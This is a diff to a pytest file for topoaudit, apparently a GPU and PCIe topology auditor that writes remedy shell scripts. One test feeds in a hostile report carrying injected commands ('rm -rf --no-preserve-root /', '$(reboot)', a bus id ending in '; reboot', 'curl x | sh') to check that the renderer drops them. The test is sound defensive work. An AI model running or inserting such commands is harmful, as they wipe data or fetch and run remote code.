@@ -24,7 +24,7 @@ from test_scenarios import run
 from topoaudit.model.finding import Finding, RemedyCommand, Severity
 from topoaudit.model.report import report_from_json
 from topoaudit.render import render
-from topoaudit.render.remedy import known_shape
+from topoaudit.rules.remedies import PROFILE_PLACES, rebuild
 
 BASH = shutil.which("bash")
 needs_bash = pytest.mark.skipif(BASH is None, reason="bash is not installed")
@@ -74,11 +74,13 @@ EXPECTED_COMMAND = {
     ("hgx-h100 acs", "pcie-acs-redirect"): "setpci -s 00ff:01:00.0 ECAP_ACS+0x6.w=0000",
     ("hgx-h100 no peermem", "gpudirect-rdma-unavailable"): "modprobe nvidia_peermem",
     ("fm-not-started", "fabric-not-ready"): "systemctl start nvidia-fabricmanager",
-    ("hgx-h100 nccl env", "nccl-env-override"): "unset NCCL_P2P_DISABLE",
+    ("hgx-h100 nccl env", "nccl-env-override"): f"grep -rnw -e NCCL_P2P_DISABLE {PROFILE_PLACES} 2>/dev/null || true",
     ("hgx-h100 nccl env", "nccl-env-override /etc/nccl.conf"): (
         "sed -i.topoaudit.bak -e '/^[[:space:]]*NCCL_IB_DISABLE[[:space:]]*=/d' /etc/nccl.conf"
     ),
-    ("hgx-h100 nccl env", "gpu-visibility-restricted"): "unset CUDA_VISIBLE_DEVICES",
+    ("hgx-h100 nccl env", "gpu-visibility-restricted"): (
+        f"grep -rnw -e CUDA_VISIBLE_DEVICES {PROFILE_PLACES} 2>/dev/null || true"
+    ),
     ("hgx-h100 x8 gpu", "pcie-link-degraded"): "lspci -vv -s 0000:3a:00.0 | grep -E 'LnkCap:|LnkSta:' || true",
     ("acs-plx-4gpu x8 card", "pcie-link-degraded"): "lspci -vv -s 0000:1b:00.0 | grep -E 'LnkCap:|LnkSta:' || true",
     ("hgx-h100 aer", "pcie-aer-errors"): "lspci -vv -s 0000:19:00.0 | grep -E 'LnkCap:|LnkSta:' || true",
@@ -115,7 +117,8 @@ def test_every_host_caused_finding_brings_its_command_into_the_script(
             if box == name and code.split()[0] == f["code"]:
                 assert expected in [c["command"] for c in f["remedy_commands"]], code
         for command in f["remedy_commands"]:
-            assert known_shape(command["command"]), command
+            saved = RemedyCommand(command["action"], command["params"], command["command"])
+            assert rebuild(saved).command == command["command"], command  # written from its template alone
             assert command["command"] in lines, (f["code"], command["command"])  # a line of its own, not a comment
             assert command["changes"]
             assert f"# undo:    {command['undo']}" in script if command["undo"] else True
@@ -137,7 +140,7 @@ def test_the_host_causes_named_are_the_brief_s_whole_list() -> None:
     assert CODES.keys() >= HOST_CAUSED
     commands = " ".join(EXPECTED_COMMAND.values())
     for part in ("ECAP_ACS+0x6.w=0000", "modprobe nvidia_peermem", "systemctl start nvidia-fabricmanager",
-                 "unset NCCL_", "lspci -vv -s"):  # fmt: skip
+                 "grep -rnw -e NCCL_", "/etc/nccl.conf", "lspci -vv -s"):  # fmt: skip
         assert part in commands
 
 
@@ -222,15 +225,16 @@ def test_a_hostile_report_cannot_smuggle_a_command_in(tmp_path: Path, monkeypatc
         "bridges\nrm -rf ~ \r\n# $(reboot)",
         remedy="see\nshutdown now",
         remedy_commands=(
-            RemedyCommand("rm -rf --no-preserve-root /", "erases everything", "true"),
-            RemedyCommand("setpci -s 00ff:03:00.0 ECAP_ACS+0x6.w=0000; reboot", "clears ACS", ""),
-            RemedyCommand("modprobe nvidia_peermem", "loads it\nreboot", "curl http://x | sh"),
+            RemedyCommand("shell", {"line": "rm -rf /"}, "rm -rf --no-preserve-root /", "erases everything", "true"),
+            RemedyCommand("acs-clear", {"bridge": "00ff:03:00.0; reboot", "control": "0x1d"}, "setpci; reboot"),
+            RemedyCommand("module-load", {"module": "nvidia_peermem"}, "modprobe x", "loads\nreboot", "curl x | sh"),
         ),
     )
     script = render(dataclasses.replace(report, findings=(evil,)), "remedy")
     assert _runnable(script) == ["set -euo pipefail", "modprobe nvidia_peermem"]
-    assert "# left out (not a command topoaudit writes): rm -rf --no-preserve-root /" in script
-    assert "# undo:    (not a command topoaudit writes; left out)" in script
+    assert "# left out, not a command topoaudit writes: no template named 'shell'" in script
+    assert "# left out, not a command topoaudit writes: acs-clear: not a PCI bus id: '00ff:03:00.0; reboot'" in script
+    assert "# undo:    modprobe -r nvidia_peermem" in script and "curl" not in script and "loads reboot" not in script
     check = subprocess.run([BASH, "-n"], input=script, text=True, capture_output=True, check=False)
     assert check.returncode == 0
 
